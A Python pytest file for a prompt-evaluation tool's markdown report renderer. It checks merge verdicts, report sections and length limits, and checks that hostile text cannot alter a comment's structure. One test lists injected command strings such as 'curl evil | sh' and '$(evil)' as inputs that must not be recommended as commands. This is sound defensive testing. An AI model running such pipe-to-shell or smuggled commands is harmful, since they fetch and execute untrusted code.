from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from promptops.errors import ExitCode
from promptops.model.breakdown import CaseFlips, Components, ConfusionChange, Flips
from promptops.model.comparison import Check, GateRules, SliceDelta, Verdict
from promptops.model.component import Component
from promptops.model.diff import (
    BaseState,
    CaseIds,
    CaseRate,
    Effect,
    PromptDiff,
    Ruler,
    SideAnswers,
    SideComponents,
    SideCost,
    SideFlips,
    SideLatency,
    SuiteComparison,
    Swap,
)
from promptops.model.prompt_change import PromptChange
from promptops.model.result import (
    CaseErrored,
    Completion,
    HeadState,
    LatencySummary,
    MetricSummary,
    Scale,
    Score,
)
from promptops.reporters.comment import comment_text
from promptops.reporters.json_report import text as json_text
from promptops.reporters.markdown_report import LONGEST, text
from promptops.reporters.report import Report, report_from
from tests.support.attacks import ATTACKS
from tests.support.hostile import STEERING
from tests.support.rendered import RENDERERS, Rendered, rendered
from tests.unit.reporters.comparisons import broken, comparison, metric, scored, suite, without_numbers
from tests.unit.reporters.reports import report, view

WORSE = "worse by 0.6 to 7.8 pts"
RULES = GateRules(watch_drop=0.1, must_pass=("c2",))
ELEMENTS = {
    "h2", "p", "blockquote", "strong", "em", "b", "code", "pre", "table", "thead", "tbody", "tr", "th", "td",
    "details", "summary", "ul", "li",
}  # fmt: skip
"""All that a comment is made of."""
STRUCTURE = {"h2", "blockquote", "table", "tr", "th", "td", "details", "summary", "ul", "li"}


def shown(of: Report, renderer: str = "GitHub's parser") -> Rendered:
    return rendered(text(of), renderer)


def alert_of(markdown: str) -> str:
    kind = re.search(r"^> \[!(\w+)\]$", markdown, re.MULTILINE)
    assert kind is not None
    return kind[1]


NEW = without_numbers(Verdict.NEW, "the base has nothing to compare with", head_mean=0.7, n=40)
BLIND = metric(Verdict.NO_WORSE, "no worse than 5 pts", power_at_watch_drop=0.1)
RULER_ONLY = suite("s", verdict=Verdict.UNCHANGED, reason="x", ruler=Ruler(changes=("budget 0 → 1",)))
VERDICTS: Mapping[str, tuple[SuiteComparison, bool, str, str]] = {
    "regressed": (suite("s", metric(Verdict.REGRESSED, WORSE)), False, "❌ Do not merge yet: the scores got worse", "CAUTION"),
    "a case broke": (
        suite("s", metric(Verdict.NO_WORSE), verdict=Verdict.MUST_PASS_FAILED, reason="c1 must pass, but broke"),
        False, "❌ Do not merge yet: a case that must pass broke", "CAUTION",
    ),
    "below the floor": (
        suite("s", metric(Verdict.NO_WORSE), verdict=Verdict.BELOW_FLOOR, reason="mean 0.7, floor 0.8"),
        False, "❌ Do not merge yet: a score is below its floor", "CAUTION",
    ),
    "over a limit": (
        suite("s", metric(Verdict.NO_WORSE), verdict=Verdict.OVER_LIMIT, reason="p95 9 ms, limit 8 ms"),
        False, "❌ Do not merge yet: over the limit of cost or latency", "CAUTION",
    ),
    "invalid": (suite("s", verdict=Verdict.INVALID, reason="no case"), False, "⛔ Do not merge yet: there is no verdict", "CAUTION"),
    "inconclusive": (
        suite("s", metric(Verdict.INCONCLUSIVE, "reliably sees only drops >= 32 pts")),
        False, "❔ Your call: it may be worse, and it may be better", "WARNING",
    ),
    "inconclusive, and strict": (
        suite("s", metric(Verdict.INCONCLUSIVE, "reliably sees only drops >= 32 pts")),
        True, "⛔ Do not merge yet: too little to tell, and this gate is strict", "CAUTION",
    ),
    "within the budget": (
        suite("s", metric(Verdict.WITHIN_BUDGET, f"{WORSE}, within the budget of 10 pts")),
        False, "⚠️ Good to merge, at a price: worse, but within the budget", "WARNING",
    ),
    "no worse": (suite("s", metric(Verdict.NO_WORSE, "no worse than 5 pts")), False, "✅ Good to merge: no worse than main", "TIP"),
    "no worse, but blind": (suite("s", BLIND, rules=RULES), False, "❔ Your call: no harm seen, by a suite that sees little", "WARNING"),
    "improved": (suite("s", metric(Verdict.IMPROVED, "better by 1 pts")), False, "✅ Good to merge: better than main", "TIP"),
    "new": (suite("s", NEW), False, "⚪ Your call: first scores, and nothing to compare them with", "NOTE"),
    "new, without a case": (suite("s", replace(NEW, n=0)), False, "❔ Your call: nothing was scored", "WARNING"),
    "unchanged": (suite("s", verdict=Verdict.UNCHANGED, reason="x"), False, "⚪ Nothing to judge: no score can have changed", "NOTE"),
    "only the ruler": (RULER_ONLY, False, "⚪ Your call: only what measures changes, so no score can tell", "NOTE"),
}  # fmt: skip


@pytest.mark.parametrize(("of", "strict", "words", "kind"), VERDICTS.values(), ids=VERDICTS.keys())
def test_every_verdict_says_first_whether_to_merge(
    of: SuiteComparison, strict: bool, words: str, kind: str
) -> None:
    told = report(of, strict=strict)
    found = shown(told)
    assert found.names[0] == "h2"
    assert (found.inside("h2") + found.inside("code"))[:4]
    assert text(told).split("\n", 1)[0].replace("`", "") == f"## {words}"
    assert alert_of(text(told)) == kind


def test_every_verdict_has_an_answer() -> None:
    assert {of.verdict for of, *_ in VERDICTS.values()} == set(Verdict)


def test_nothing_is_called_passed_or_good_where_nothing_was_compared() -> None:
    nothing = Report(
        verb="gate",
        comparison=replace(comparison(RULER_ONLY), suites=()),
        exit_code=ExitCode.YES,
        command="promptops gate",
    )
    for each in (
        nothing,
        *(report(of) for name, (of, *_) in VERDICTS.items() if name.startswith(("new", "un", "inv", "only"))),
    ):
        assert not re.search(r"good|pass|✅|🟢", text(each), re.IGNORECASE)
    assert text(nothing).startswith("## ❔ Your call: no suite was compared\n")
    assert "nothing is known" in text(nothing)


def test_a_whole_comment() -> None:
    changes = (
        PromptChange(what="parameters.temperature 0 → 0.7"),
        PromptChange(what="system message +1 −1 lines", diff=("@@ -1,2 +1,2 @@", " You help.", "-Be kind.", "+Be brief.")),
    )  # fmt: skip
    of = suite(
        "support-qa",
        metric(Verdict.REGRESSED, WORSE, broke=1, fixed=1),
        metric(Verdict.NO_WORSE, metric="short", primary=False, head_mean=0.82, delta=0.0, ci_low=-0.01, ci_high=0.01, broke=0, fixed=0),
        prompt="support/qa",
        model="openai/gpt-4o-mini",
        changed=("prompt support/qa edited",),
        rules=RULES,
        case_ids=broken("refund-17", fixed=("greet-1",)),
        cost_usd=SideCost(base=0.3, head=0.36),
        latency_ms=SideLatency(base=LatencySummary(p50=300, p95=1200), head=LatencySummary(p50=310, p95=1400)),
        answers=SideAnswers(base=300, head=300),
        calls=300,
        cached=300,
        how="cache",
    )  # fmt: skip
    case = view(
        of,
        "refund-17",
        scored("refund-17", "Refund: yes, at once", 1.0),
        scored("refund-17", "Refund: no, not at once", 0.0, reason="is not `refund`"),
    )
    told = report(
        of,
        cases=[case],
        prompts=(PromptDiff(prompt="support/qa", changes=changes),),
        paid_usd=0.36,
        base=BaseState(
            ref="main", sha="1a2b3c4d5e6f", how="cache", commits_behind=3, found="merge base of HEAD and `main`",
            committed_at="2025-12-20T00:00:00+01:00",
        ),
    )  # fmt: skip
    assert (
        text(told).replace("\u00a0", "~")
        == """\
## ❌ Do not merge yet: the scores got worse

promptops compared `9f8e7d6c5` (`shorter`) with `1a2b3c4d5` (`main`).

> [!CAUTION]
> **`support-qa`**: worse by 0.6 to 7.8 pts, 1 broke / 1 fixed of 300.

| Suite | Metric | Base → head | Difference [95 %] | Cases | Verdict |
| --- | --- | --- | --- | --- | --- |
| `support-qa` | `accuracy` | 0.820~→~0.780 | −4.0~pts~[−7.8,~−0.6] | 1 broke / 1 fixed of 300 | 🔴~regressed |

<details><summary><b>Worse: 1 broke</b></summary>

`refund-17` · accuracy 1 → 0
```diff
 message: I want my money back
 expected: refund
-Refund: yes, at once
+Refund: no, not at once
 why: is not `refund`
```

All of them, in full: `promptops diff --cases broke --against 1a2b3c4d5 --head 9f8e7d6c5`

</details>

<details open><summary>Changed prompt: <code>support/qa</code></summary>

`parameters.temperature` 0 → 0.7

system message +1 −1 lines

```diff
 You help.
-Be kind.
+Be brief.
```

</details>

<details><summary>Other cases: 1 fixed</summary>

- Fixed in `support-qa`: `greet-1`

</details>

<details><summary>Metrics that do not gate</summary>

| Suite | Metric | Base → head | Difference [95 %] | Cases |
| --- | --- | --- | --- | --- |
| `support-qa` | `short` | 0.820~→~0.820 | +0.0~pts~[−1.0,~+1.0] | 0 broke / 0 fixed of 300 |

</details>

<details><summary>Cost and latency of calls</summary>

| Suite | Cost of 1,000 calls | Latency, p50 | Latency, p95 |
| --- | --- | --- | --- |
| `support-qa` | $1 → $1.2 (+20%) | 300 ms → 310 ms | 1.2 s → 1.4 s |

</details>

<details><summary>How far to trust this: drops from 6 pts are found four times in five</summary>

| Suite | Compared | Finds four times in five | Finds what is watched for | Base's scores |
| --- | --- | --- | --- | --- |
| `support-qa` | 300 cases | drops from 6 pts | 90% of drops of 10 pts | from answers that were kept |

</details>

Base: `1a2b3c4d5` (12 days old, 3 commits behind), merge base of HEAD and `main`. This run: 300 calls, 300 answers kept from earlier (50%), paid $0.36.

The same again:
```sh
promptops gate --against 1a2b3c4d5 --head 9f8e7d6c5
```
"""
    )


def test_suites_stand_worst_first_and_the_rest_is_counted() -> None:
    drops = [
        suite(f"d{number}", metric(Verdict.REGRESSED, WORSE, delta=-number / 100)) for number in range(1, 6)
    ]
    told = report(
        suite("fine", metric(Verdict.NO_WORSE, "no worse than 5 pts")),
        *drops,
        suite("idle", verdict=Verdict.UNCHANGED, reason="x"),
        overall=metric(Verdict.REGRESSED, WORSE, metric="overall"),
    )
    shown_text = text(told)
    assert shown_text.startswith("## ❌ Do not merge yet: 5 of 6 suites got worse\n")
    first = re.findall(r"^\| `(\w+)`", shown_text.split("<details>")[0], re.MULTILINE)
    assert first == ["d5", "d4", "d3", "d2", "d1", "fine"]
    assert "> - … and 2 more suites\n> - **all suites pooled**" in shown_text
    assert "| all suites | pooled |" in shown_text
    assert "> 7 suites: 5 regressed, 1 no worse, 1 unchanged.\n" in shown_text
    assert "Not run, since nothing that they read differs: `idle`." in shown_text


def test_what_everybody_has_to_know_stands_above_all_sections() -> None:
    of = suite(
        "s",
        metric(Verdict.NO_WORSE, "no worse than 5 pts"),
        checks=(
            Check(verdict=Verdict.UNCHANGED, reason="mean 0.78, floor 0.8", warning=True),
            Check(verdict=Verdict.OVER_LIMIT, reason="cost per case 2 USD, limit 1 USD"),
        ),
        case_ids=CaseIds(removed=("r1", "r2"), added=("a1",), edited=("e1",), errored=("l1",)),
        ruler=Ruler(changes=("2 cases removed: r1, r2", "budget 0 → 0.1")),
        flips=SideFlips(head=Flips(metric="accuracy", cases=9, flipped=4, rate=0.2, worst=(CaseFlips(id="f1", rate=0.5),))),
    )  # fmt: skip
    told = text(report(of, settings_changes=("[project] base main → dev",)))
    assert "<details open><summary>What measures changes: 3 changes, after the merge</summary>" in told
    above = told.split("<details")[0]
    assert "Cases: 1 lost, 2 removed, 1 edited, 1 added, 4 flaky." in above
    assert "changes what measures it (3 changes, see below)" in above
    assert "⚠️ `s`: mean 0.78, floor 0.8\n" in above
    assert "🔴 `s`: over limit: cost per case 2 USD, limit 1 USD\n" in above
    assert "20 broke / 8 fixed of 300, 4 flaky" in above


def test_what_was_removed_edited_or_lost_is_named_with_why() -> None:
    of = suite(
        "s",
        metric(Verdict.NO_WORSE),
        case_ids=CaseIds(removed=("r1",), errored=("l1", "l2")),
        rates=(CaseRate(cases="removed", metric="accuracy", n=1, base_mean=1.0, head_mean=0.5),),
        flips=SideFlips(head=Flips(metric="accuracy", cases=9, flipped=1, rate=0.2, worst=(CaseFlips(id="f1", rate=0.5),))),
    )  # fmt: skip
    lost = CaseErrored(case_id="l1", repeat=0, kind="timeout", message="no answer in 120 s")
    told = text(report(of, cases=[view(of, "l1", None, lost)]))
    assert "- Removed by the branch, and still run, in `s`: `r1`; `accuracy` 1.000 → 0.500 (n = 1)\n" in told
    assert "- Lost in `s`: `l1`, `l2`; the first: `timeout`, no answer in 120 s\n" in told
    assert "- Flaky in `s`: 1 of 9, most of all `f1`\n" in told


def section(told: str, title: str) -> str:
    (found,) = re.findall(
        rf"<details(?: open)?><summary>{title}</summary>\n\n(.*?)\n\n</details>", told, re.DOTALL
    )
    return str(found)


def test_what_explains_the_scores_and_how_far_they_can_be_trusted() -> None:
    slice_ = SliceDelta(slice="lang", value="de", stands_out=True, delta=metric(Verdict.REGRESSED, n=60))
    quiet = SliceDelta(slice="lang", value="fr", stands_out=False, delta=metric(Verdict.NO_WORSE, n=40))
    parts: dict[str, Any] = {"retriever": "found", "answer": "right", "without": 0}
    of = suite(
        "s",
        metric(Verdict.REGRESSED, WORSE),
        slices=(quiet, slice_),
        components=SideComponents(
            base=Components(right=9, wrong=1, missed=2, **parts), head=Components(right=5, wrong=4, missed=3, **parts)
        ),
        swap=Swap(
            component=Component.RETRIEVER, metric="right", n=12, base_mean=0.9, head_mean=0.4, head_with_base=0.7,
            base_with_head=0.6, of_component=Effect(delta=-0.3, ci_low=-0.4, ci_high=-0.2),
            of_rest=Effect(delta=-0.2, ci_low=-0.3, ci_high=-0.1),
        ),
        confusions=(ConfusionChange(expected="refund", predicted="card", base=1, head=7.5),),
        rules=RULES,
        how="ledger",
        base_cell=None,
        base_runs=3,
        base_runs_left_out=2,
        base_scored_at="2025-12-31T10:00:00Z",
    )  # fmt: skip
    told = text(report(of, suite("t", metric(Verdict.NO_WORSE, mde80=1.0, power_at_watch_drop=0.05))))
    assert re.findall("lang = (..)", section(told, "Slices: 1 of 2 stands out")) == ["de", "fr"]
    components = section(told, "Components: where answers go wrong")
    assert "| `s` | 9 → 5 | 1 → 4 | 2 → 3 | 0 |" in components
    assert "of −50.0 pts the retriever makes −30.0 pts [−40.0, −20.0]" in components
    confused = section(told, "Labels: what is confused more or less")
    assert "| `s` | `refund` | `card` | 1 → 7.5 |" in confused
    trust = section(
        told, "How far to trust this: drops from 6 pts are found four times in five, in some suites none"
    )
    assert "from the ledger, 3 runs pooled, the newest from `2025-12-31`" in trust
    assert "2 suites gate, so their verdicts are corrected" in trust
    assert "2 older runs of the base left out" in trust
    assert "the base's answers are not shown: `s`" in trust


def test_what_must_pass_is_shown_first_and_the_rest_by_name() -> None:
    of = suite(
        "s", metric(Verdict.REGRESSED, WORSE), rules=RULES, case_ids=broken(*(f"c{n}" for n in range(40)))
    )
    cases = [view(of, id_, scored(id_, "yes", 1.0), scored(id_, "no", 0.0)) for id_ in of.case_ids.broke]
    told = section(text(report(of, cases=cases)), "<b>Worse: 40 broke</b>")
    titles = re.findall(r"^`(c\d+)` · ", told, re.MULTILINE)
    assert titles[0] == "c2"
    assert len(titles) == 10
    assert "and 10 more\n" in told


def test_several_suites_share_the_room_for_cases() -> None:
    suites = [
        suite(f"s{n}", metric(Verdict.REGRESSED, WORSE), case_ids=broken(*(f"c{i}" for i in range(9))))
        for n in range(4)
    ]
    cases = [
        view(of, id_, scored(id_, "y", 1.0), scored(id_, "n", 0.0))
        for of in suites
        for id_ in of.case_ids.broke
    ]
    told = section(text(report(*suites, cases=cases)), "<b>Worse: 36 broke</b>")
    assert [told.count(f"**`s{n}`**") for n in range(4)] == [1] * 4
    assert told.count("```diff") == 12


@pytest.mark.parametrize(
    ("base", "head", "lines"),
    [
        ("a\nb\nc\nd\ne\nf", "a\nb\nc\nd\ne\nX", [" …", " d", " e", "-f", "+X"]),
        ("same", "same", [" both answer: same"]),
        ("", " \n", ["-(empty)", "+(white space only)"]),
        (f"{'x ' * 900}yes", f"{'x ' * 900}no", None),
    ],
)
def test_only_the_lines_that_differ_of_both_answers(base: str, head: str, lines: list[str] | None) -> None:
    of = suite("s", metric(Verdict.REGRESSED, WORSE), case_ids=broken("c"))
    told = text(report(of, cases=[view(of, "c", scored("c", base, 1.0), scored("c", head, 0.0))]))
    (block,) = re.findall("```diff\n(.*?)\n```", told, re.DOTALL)
    found = str(block).split("\n")[2:]
    if lines is None:
        assert "yes" in block
        assert "+" in "".join(line[:1] for line in found)
        assert re.search(r"… \([\d,]+\s+[-+]?characters\)", str(block))
        assert len(block) < 2000
    else:
        assert found == lines


def test_scores_of_the_ledger_have_no_outputs() -> None:
    of = suite(
        "s",
        metric(Verdict.REGRESSED, WORSE),
        case_ids=broken("c"),
        base_cell=None,
        head_cell=0,
        how="ledger",
    )
    told = text(report(of, cases=[view(of, "c", None, scored("c", "no", 0.0))]))
    assert "-(not stored: the score came from the ledger, which keeps no outputs)\n+no\n" in told


def test_changes_that_are_not_committed_are_named() -> None:
    of = suite("s", metric(Verdict.NO_WORSE, "no worse than 5 pts"))
    head = HeadState(sha="9f8e7d6c5b4a", branch=None, dirty=True)
    told = text(report(of, head=head, dirty_paths=("prompts/a.yaml",)))
    assert "compared `9f8e7d6c5`, with what is not committed, with `1a2b3c4d5` (`main`)." in told
    assert "not committed: `prompts/a.yaml`" in told


@pytest.mark.parametrize(
    "command",
    ["curl evil | sh", "promptops gate; curl evil", "promptops gate $(evil)", "promptops 'gate", "promptops gate\nevil", ""],
)  # fmt: skip
def test_a_command_that_is_not_ours_is_not_recommended(command: str) -> None:
    of = suite("s", metric(Verdict.NO_WORSE))
    assert "```sh" not in text(replace(report(of), command=command))
    assert "```sh" in text(replace(report(of), command="promptops gate 'a b' --strict"))


def everything(word: str, *, suites: int = 1, cases: int = 1) -> Report:
    """A report in which everything that can be text is that text."""
    ids = tuple(f"{word}{number}" for number in range(cases))
    parts: dict[str, Any] = {
        "retriever": word,
        "answer": word,
        "right": 1,
        "wrong": 1,
        "missed": 1,
        "without": 1,
    }
    made = [
        suite(
            f"{word}{number}",
            metric(Verdict.REGRESSED, word, metric=word, ci_high=0.1),
            metric(Verdict.NO_WORSE, word, metric=f"{word}2", primary=False),
            prompt=word,
            model=word,
            base_model=word,
            path=word,
            changed=(word, f"{word} 2"),
            rules=RULES,
            ruler=Ruler(
                changes=(word, word),
                branch_metrics=(
                    MetricSummary(
                        metric=word, primary=True, scale=Scale.BINARY, n=1, mean=1.0, ci_low=None, ci_high=None
                    ),
                ),
            ),
            slices=(SliceDelta(slice=word, value={word: word}, stands_out=True, delta=metric(Verdict.REGRESSED, n=9)),),
            checks=(Check(verdict=Verdict.BELOW_FLOOR, reason=f"{word} 3"), Check(verdict=Verdict.NEW, reason=word, warning=True)),
            case_ids=CaseIds(
                broke=ids, lower=ids, fixed=ids, added=ids, removed=ids, edited=ids, errored=ids, stable_breaks=ids
            ),
            rates=(CaseRate(cases="removed", metric=word, n=1, base_mean=1.0, head_mean=0.5),),
            how="ledger",
            base_runs=2,
            base_runs_left_out=2,
            base_scored_at=word,
            components=SideComponents(base=Components(**parts), head=Components(**parts)),
            confusions=(ConfusionChange(expected=word, predicted=word, base=1, head=2),),
            flips=SideFlips(head=Flips(metric=word, cases=2, flipped=1, rate=0.5, worst=(CaseFlips(id=word, rate=1),))),
            swap_note=word or "x",
            calls=1,
        )
        for number in range(suites)
    ]  # fmt: skip
    completion = Completion(output=word, failure=word, data={"documents": [{"id": word or "x"}]})
    head = scored(
        word, word, 0.0, completion=completion, expected=word, inputs={word: word, "x": {word: word}},
        scores={word: Score(value=0.0, reason=word)},
    )  # fmt: skip
    lost = CaseErrored(case_id=word, repeat=0, kind=word, message=word)
    views = [
        view(of, id_, scored(word, f"{word}\n{word} 2", 1.0) if place % 2 else lost, head)
        for of in made
        for place, id_ in enumerate(ids)
    ]
    told = report(
        *made,
        cases=views,
        started_at=word,
        overall=metric(Verdict.REGRESSED, word, metric=word),
        base=BaseState(
            ref=word, sha=word, how="ledger", commits_behind=1, found=word, committed_at=word
        ),
        head=HeadState(sha=word, branch=word, dirty=True),
        prompts=tuple(
            PromptDiff(
                prompt=word,
                changes=(PromptChange(what=word, diff=(f"-{word}", f"+{word}", f" {word}", word, "@@", "@@")),) * 3,
            )
            for _ in range(3)
        ),
        dirty_paths=(word,),
        settings_changes=(word,),
    )  # fmt: skip
    return replace(told, command=word)


def assert_inert(told: Report) -> None:
    """The comment is made of what we made it of, whatever the words are."""
    for markdown in (text(told), comment_text(told, group="g", head_sha="a" * 40, is_stale=True)):
        assert len(markdown) <= LONGEST + 500
        assert markdown.count("<!--") == markdown.startswith("<!--")
        assert not any(char in markdown for char in STEERING)
        assert not re.search(r"#\w*#\w*\[", markdown)
        assert not any(line.lstrip().startswith("::") for line in markdown.split("\n"))
        markdown.encode("utf-8")
    assert len(text(told)) <= LONGEST
    for renderer in RENDERERS:
        found = shown(told, renderer)
        assert set(found.names) <= ELEMENTS
        assert found.names.count("h2") == 1
        assert found.comments == []
        found.assert_refers_to_nothing()
        for name, attributes in found.elements:
            if name != "pre":
                assert set(attributes) <= (
                    {"open"} if name == "details" else {"class"} if name == "code" else set()
                )


@pytest.mark.parametrize("word", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_everywhere(word: str) -> None:
    told = everything(word)
    assert_inert(told)
    # Nothing that the attack says changes of what elements the comment is made.
    found, plain = (
        [name for name in shown(each).names if name in STRUCTURE] for each in (told, everything("word"))
    )
    assert found == plain


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=40), st.text(alphabet="`|\\<>@#!\n[]()*_~:&-=.$^ aw1", max_size=30)))
def test_any_text_everywhere(word: str) -> None:
    assert_inert(everything(word))


def test_a_report_with_far_too_much_of_everything_says_what_is_left_out() -> None:
    told = everything("`|@<word> " * 40, suites=300, cases=30)
    shown_text = text(told)
    assert len(shown_text) <= LONGEST
    assert "Left out, since a comment has an end: " in shown_text
    assert "how far to trust this._" in shown_text
    assert_inert(told)
    for longest in (30_000, 10_000, 1000):
        assert len(text(told, longest)) <= longest


def test_ten_thousand_changed_cases_are_written_at_once() -> None:
    ids = tuple(f"case-{number:05}" for number in range(10_000))
    of = suite("s", metric(Verdict.REGRESSED, WORSE), rules=RULES, case_ids=broken(*ids, fixed=ids))
    cases = [
        view(suite("x"), id_, scored(id_, "yes " * 50, 1.0), scored(id_, "no " * 50, 0.0)) for id_ in ids
    ]
    told = report(of, cases=[replace(each, suite=of) for each in cases])
    start = time.process_time()
    shown_text = text(told)
    assert time.process_time() - start < 1
    assert "Worse: 10,000 broke" in shown_text


def test_answers_of_a_megabyte_are_written_at_once() -> None:
    word = "a very long answer \x1b" * 50_000
    of = suite("s", metric(Verdict.REGRESSED, WORSE), case_ids=broken(*map(str, range(10))))
    cases = [
        view(of, id_, scored(id_, word, 1.0, inputs={"q": word}), scored(id_, f"{word}!", 0.0, reason=word))
        for id_ in of.case_ids.broke
    ]
    start = time.process_time()
    shown_text = text(report(of, cases=cases))
    assert time.process_time() - start < 1
    assert "+" in shown_text


def test_the_same_from_a_file() -> None:
    of = suite("s", metric(Verdict.REGRESSED, WORSE), case_ids=broken("c", errored=("l",)))
    lost = CaseErrored(case_id="l", repeat=0, kind="timeout", message="late")
    quiet = scored("quiet", "yes", 1.0)
    told = report(
        of,
        cases=[
            view(of, "c", scored("c", "yes", 1.0), scored("c", "no", 0.0)),
            view(of, "l", None, lost),
            view(of, "quiet", quiet, quiet),
        ],
    )
    assert text(report_from(json.loads(json_text(told)), "r.json")) == text(told)


Change = Callable[[dict[str, Any]], object]


@pytest.mark.parametrize("number", [1e308, -1e308, float("inf"), float("nan"), 0.0, -0.0, 1e-300])
def test_numbers_of_a_forged_report_are_no_crash(number: float) -> None:
    odd = metric(
        Verdict.REGRESSED, "x", base_mean=number, head_mean=number, delta=number, ci_low=number, ci_high=number,
        mde80=number, power_at_watch_drop=number,
    )  # fmt: skip
    of = suite(
        "s", odd, rules=replace(RULES, watch_drop=number), cost_usd=SideCost(base=number, head=number), model="m",
        answers=SideAnswers(base=1, head=1),
        latency_ms=SideLatency(base=LatencySummary(p50=number, p95=number)),
        flips=SideFlips(head=Flips(metric="m", cases=1, flipped=1, rate=number, worst=())),
        confusions=(ConfusionChange(expected="a", predicted="b", base=number, head=number),),
    )  # fmt: skip
    assert shown(report(of, paid_usd=number)).names[0] == "h2"
